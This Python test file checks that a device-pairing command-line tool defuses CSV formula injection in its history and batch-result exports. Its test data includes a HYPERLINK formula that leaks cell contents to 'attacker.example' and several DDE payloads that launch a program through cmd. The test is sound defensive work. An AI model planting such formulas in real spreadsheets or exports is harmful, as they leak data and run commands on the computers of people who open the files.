"""CSV formula injection: values a support engineer types (or a CSV file brings) that a
spreadsheet would run as formulas come out of every export defused.

End to end through the command line: pairings and a batch with formula-shaped serials,
aliases, models and firmware versions, then `history --csv` and the batch's results file
are read back as a spreadsheet would read them.
"""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from pathlib import Path

from tests.core.helpers import rufus_key

ROOT = Path(__file__).resolve().parents[2]
FORMULAS = {
    "serial": '=HYPERLINK("http://attacker.example/?leak="&A1,"click")',
    "alias": "+cmd|' /C calc'!A0",
    "model": "@SUM(1+1)*cmd|' /C calc'!A0",
    "firmware": "-2+3+cmd|' /C calc'!A0",
}
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def cli(data_dir: Path, *args: str, **env: str) -> subprocess.CompletedProcess:
    environ = {k: v for k, v in os.environ.items() if k != "RUFUS_API_KEY"}
    environ.update(PAIRING_WIZARD_DATA_DIR=str(data_dir), **env)
    return subprocess.run([sys.executable, "-m", "app", *args], cwd=ROOT, env=environ,
                          capture_output=True, text=True, timeout=60)


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


def test_formula_shaped_values_are_defused_in_every_export(sandbox, tmp_path):
    key = rufus_key(sandbox.fixtures(), access=("READ_WRITE",), unbind=True)
    done = cli(tmp_path, "pair", "rufus", "--model", FORMULAS["model"], "--serial",
               FORMULAS["serial"], "--alias", FORMULAS["alias"], "--firmware",
               FORMULAS["firmware"], "--base-url", sandbox.rufus_root, "--json",
               RUFUS_API_KEY=key)
    assert done.returncode == 0, done.stdout + done.stderr

    batch = tmp_path / "batch.csv"
    with batch.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["model", "serial_number", "alias", "firmware"])
        writer.writerow([FORMULAS["model"], "=1+2", FORMULAS["alias"], FORMULAS["firmware"]])
        writer.writerow(["Model X1", "@A1", "-1", "+1"])
    results = tmp_path / "results.csv"
    done = cli(tmp_path, "batch", str(batch), "--provider", "rufus", "--base-url",
               sandbox.rufus_root, "--results", str(results), "--json", RUFUS_API_KEY=key)
    assert done.returncode == 0, done.stdout + done.stderr

    exported = cli(tmp_path, "history", "--csv")
    assert exported.returncode == 0
    batch_values = ("=1+2", "@A1", "-1", "+1", FORMULAS["model"], FORMULAS["alias"],
                    FORMULAS["firmware"])
    for name, text, expected in (
            ("history --csv", exported.stdout, (*FORMULAS.values(), "=1+2", "@A1")),
            ("batch results", results.read_text(encoding="utf-8-sig"), batch_values)):
        values = cells(text)
        # Not vacuous: the typed values are all there, each behind an apostrophe.
        for value in expected:
            assert "'" + value in values, (name, value)
        dangerous = [cell for cell in values if cell.startswith(TRIGGERS)]
        assert not dangerous, (name, dangerous)
